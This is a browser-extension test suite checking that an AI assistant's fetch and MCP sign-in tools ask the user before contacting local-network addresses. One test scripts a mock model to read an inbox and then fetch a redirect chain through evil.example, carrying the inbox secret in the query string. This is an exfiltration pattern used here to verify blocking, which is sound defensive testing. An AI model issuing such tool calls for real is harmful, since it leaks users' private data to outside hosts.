// The user's own network by address, not only by name, end to end in Chromium and Firefox: sites
// with public-looking names (TEST_HOSTS in harness.mjs) that resolve to 127.0.0.1.
// - news.example is NOT in the tests' allow-list: as far as the extension can tell it is a public
//   name whose address is on this computer. web_fetch treats it as local: the card asks (reason
//   "your own network") and the model gets nothing of the page before the yes. Firefox resolves
//   the name first, so nothing is even sent before the yes; Chrome cannot resolve, so the request
//   goes out and the answer (from 127.0.0.1) is withheld.
// - An open redirect chain on the mail site whose middle hop goes to another origin is checked hop
//   by hop: that hop asks (after a private read), and when refused its server receives nothing.
// - An MCP server whose OAuth metadata points into the user's network: a run makes no discovery
//   request at all; the settings page refuses the address and offers to allow it.
// Cards are answered by the tests (no auto-approval) where asking is what is tested.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { startMcpServer } from '../mcp-server/server.mjs';
import { contentText, startModelServer } from '../model-server/server.mjs';
import { startFixtureServer } from './fixture-server.mjs';
import { launch, screenshotPath, selectedBrowsers } from './harness.mjs';
import {
  allowLocalOrigins,
  answerCard,
  configureProvider,
  countAsks,
  firstCard,
  htmlPage,
  openSidebar,
  sendMessage,
  startSite,
  tabIdOf,
  waitForIdle,
} from './helpers.mjs';

const ROUTER = 'Router admin page: wifi password tangerine-42';
const SECRET = 'Grace Hopper, account 3141 5926';

/** The tool results in a model request, as text. */
const toolTexts = (req) => req.messages.filter((m) => m.role === 'tool').map((m) => contentText(m));

/** Everything the model was sent so far, as one text. */
const allSent = (model) => model.requests.map((r) => JSON.stringify(r.messages)).join('\n');

for (const browserName of selectedBrowsers()) {
  describe(`the user's network by address, in ${browserName}`, { timeout: 300_000 }, () => {
    let h;
    let model;
    let news;
    let mail;
    let evil;

    before(async () => {
      model = await startModelServer();
      news = await startSite('news.example', { '/router.html': () => htmlPage('Router', `<main><h1>Router</h1><p>${ROUTER}</p></main>`) });
      mail = await startSite('mail.example', {
        '/inbox.html': () => htmlPage('Inbox — Mail', `<main><h1>Inbox</h1><p>Account: ${SECRET}.</p></main>`),
        '/end.html': () => htmlPage('Mail end', '<main><h1>End of the chain</h1><p>Back on the mail site.</p></main>'),
        // An open redirect, as many sites have.
        '/go': (url) => ({ status: 302, headers: { location: url.searchParams.get('to') ?? '/' } }),
      });
      evil = await startSite('evil.example', { '/bounce': (url) => ({ status: 302, headers: { location: url.searchParams.get('next') ?? '/' } }) });
      h = await launch(browserName);
      const options = await configureProvider(h, { baseUrl: model.url });
      // mail.example and evil.example are public sites as far as these tests go; news.example is not listed.
      await allowLocalOrigins(options, [mail.origin, evil.origin]);
      await options.close();
    });

    after(async () => {
      await h?.close();
      await model?.close();
      await news?.close();
      await mail?.close();
      await evil?.close();
    });

    test('a public-looking name that resolves to 127.0.0.1 is local: the card asks, the model gets nothing before the yes; Deny keeps it from the model', async () => {
      const url = news.url('/router.html');
      const script = (req) => {
        const results = toolTexts(req);
        if (results.length === 0) return { toolCalls: [{ name: 'web_fetch', arguments: { url } }] };
        return { text: `Done: ${results.at(-1).slice(0, 600)}` };
      };
      model.reset();
      model.setScript(script);
      const sidebar = await openSidebar(h, { autoApprove: false });
      await sidebar.click('button', 'New conversation');
      await countAsks(sidebar);
      await sendMessage(sidebar, 'Read the news page');
      const card = await firstCard(sidebar);
      assert.ok(card.includes(url), `the card shows the address:\n${card}`);
      assert.match(card, /your own network/, 'asked as the user\'s own network');
      // While the card waits, the model has had only the user's message.
      assert.equal(model.requests.length, 1);
      assert.ok(!allSent(model).includes('tangerine'), 'nothing of the page reached the model');
      if (browserName === 'firefox') {
        // Firefox resolved the name first: nothing was sent to the address.
        assert.deepEqual(news.requests, [], 'not requested before the yes');
      } else {
        // Chrome cannot resolve: the answer came, from 127.0.0.1, and is held back.
        assert.deepEqual(news.requests, ['/router.html']);
      }
      await sidebar.screenshot(screenshotPath(browserName, 'local-address-card'));
      await answerCard(sidebar, 'deny');
      await sidebar.waitForText('Done:', { timeout: 20_000 });
      await waitForIdle(sidebar);
      assert.match(contentText(model.requests.at(-1).last), /declined/);
      assert.ok(!allSent(model).includes('tangerine'), 'the page never reached the model');
      assert.equal(await sidebar.evaluate(() => window.__asks), 1);
      assert.deepEqual(news.requests, browserName === 'firefox' ? [] : ['/router.html'], 'nothing more was asked of it');

      // The same call allowed: the page is read, after the yes.
      model.reset();
      model.setScript(script);
      await sidebar.click('button', 'New conversation');
      await sendMessage(sidebar, 'Read the news page, I allow it');
      await firstCard(sidebar);
      assert.ok(!allSent(model).includes('tangerine'));
      await answerCard(sidebar, 'once');
      await sidebar.waitForText('Done:', { timeout: 20_000 });
      await waitForIdle(sidebar);
      assert.match(contentText(model.requests.at(-1).last), /tangerine-42/, 'read after the yes');
      await sidebar.close();
    });

    test('an open redirect chain whose middle hop goes to another origin is checked hop by hop: refused, that server receives nothing', async () => {
      const inbox = await h.newPage(mail.url('/inbox.html'));
      const sidebar = await openSidebar(h, { autoApprove: false });
      const inboxTab = await tabIdOf(sidebar, '/inbox.html');
      // mail.example → evil.example (carrying the inbox in its query) → back to mail.example.
      const middle = evil.url(`/bounce?d=${encodeURIComponent(SECRET)}&next=${encodeURIComponent(mail.url('/end.html'))}`);
      const start = mail.url(`/go?to=${encodeURIComponent(middle)}`);
      const script = (req) => {
        const results = toolTexts(req);
        if (results.length === 0) return { toolCalls: [{ name: 'get_tab_content', arguments: { tab_id: inboxTab } }] };
        if (results.length === 1) return { toolCalls: [{ name: 'web_fetch', arguments: { url: start } }] };
        return { text: `Done: ${results.at(-1).slice(0, 400)}` };
      };
      model.reset();
      model.setScript(script);
      evil.requests.length = 0;
      mail.requests.length = 0;
      await sidebar.click('button', 'New conversation');
      await countAsks(sidebar);
      await sendMessage(sidebar, 'Open the link in my inbox');
      const card = await firstCard(sidebar);
      assert.ok(card.includes(middle), `the card shows the middle hop:\n${card}`);
      // The first address (the mail site itself) went without asking; the middle hop waits.
      assert.ok(mail.requests.some((r) => r.startsWith('/go?')), 'the first hop was requested');
      assert.deepEqual(evil.requests, []);
      await answerCard(sidebar, 'deny');
      await sidebar.waitForText('Done:', { timeout: 20_000 });
      await waitForIdle(sidebar);
      assert.deepEqual(evil.requests, [], 'evil.example received nothing');
      assert.ok(!mail.requests.includes('/end.html'), 'nothing after the refused hop was requested');
      assert.match(contentText(model.requests.at(-1).last), /declined/);
      assert.equal(await sidebar.evaluate(() => window.__asks), 1);

      // Allowed: the middle hop is requested, and the last hop, back to mail.example, goes without a card.
      model.reset();
      model.setScript(script);
      await sidebar.click('button', 'New conversation');
      await countAsks(sidebar);
      await sendMessage(sidebar, 'Open the link in my inbox again');
      const again = await firstCard(sidebar);
      assert.ok(again.includes(middle));
      await answerCard(sidebar, 'once');
      await sidebar.waitForText('Done:', { timeout: 20_000 });
      await waitForIdle(sidebar);
      assert.equal(evil.requests.length, 1, 'the allowed hop was requested once');
      assert.ok(mail.requests.includes('/end.html'), 'and the chain went on to its end');
      assert.match(contentText(model.requests.at(-1).last), /End of the chain/);
      assert.equal(await sidebar.evaluate(() => window.__asks), 1, 'one card: the hop to another origin');
      await sidebar.close();
      await inbox.close();
    });

    test('an MCP server whose OAuth metadata points into the user\'s network: a run sends nothing there, and the settings page asks first', async () => {
      const trap = await startFixtureServer();
      const server = await startMcpServer({ oauth: true, name: 'tools', host: 'tools.example' });
      try {
        // Added while it needs no sign-in: its tools are known and the connection stays.
        server.state.authRequired = false;
        const options = await h.openExtensionPage('options.html#mcp', { width: 1000, height: 900 });
        await options.fill('Server URL', server.url);
        await options.fill('Name', 'Tools');
        await options.click('button', 'Add server');
        await options.waitForText('Added Tools:', { timeout: 30_000 });

        // Then it wants OAuth and names an address on this computer for every endpoint.
        server.state.authRequired = true;
        server.state.oauthMetadata = {
          resource_metadata: `${trap.origin}/prm`,
          authorization_servers: [trap.origin],
          authorization_endpoint: `${trap.origin}/authorize`,
          token_endpoint: `${trap.origin}/token`,
          registration_endpoint: `${trap.origin}/register`,
        };
        const before = server.state.requests.length;
        model.reset();
        model.setScript((req) => {
          const results = toolTexts(req);
          if (results.length === 0) return { toolCalls: [{ name: 'mcp_tools_get_weather', arguments: { city: 'Oslo' } }] };
          return { text: `Done: ${results.at(-1).slice(0, 400)}` };
        });
        const sidebar = await openSidebar(h);
        await sidebar.click('button', 'New conversation');
        await sendMessage(sidebar, 'What is the weather in Oslo? Ask the tools server.');
        await sidebar.waitForText('Done:', { timeout: 30_000 });
        await waitForIdle(sidebar);
        assert.deepEqual(trap.requests, [], 'the address the metadata named received nothing');
        assert.deepEqual(server.state.requests.slice(before).filter((r) => r.includes('well-known')), [], 'a run discovers nothing');
        await sidebar.close();

        // At the settings page (Reconnect signs in): the address is not contacted, and the page says so.
        await options.raw.bringToFront?.();
        await options.click('button', 'Reconnect Tools');
        await options.waitForText(`sends its sign-in to ${trap.origin}`, { timeout: 30_000 });
        assert.deepEqual(trap.requests, [], 'still nothing');
        await options.find('button', `Allow ${trap.origin} for Tools and sign in`);
        await options.screenshot(screenshotPath(browserName, 'mcp-local-address'));
        // The user allows it: now the sign-in may reach it.
        await options.click('button', `Allow ${trap.origin} for Tools and sign in`);
        const deadline = Date.now() + 20_000;
        while (!trap.requests.length && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
        assert.ok(trap.requests.length > 0, 'after the yes, the sign-in reached it');
        await options.click('button', 'Remove Tools');
        await options.close();
      } finally {
        await server.close();
        await trap.close();
      }
    });
  });
}
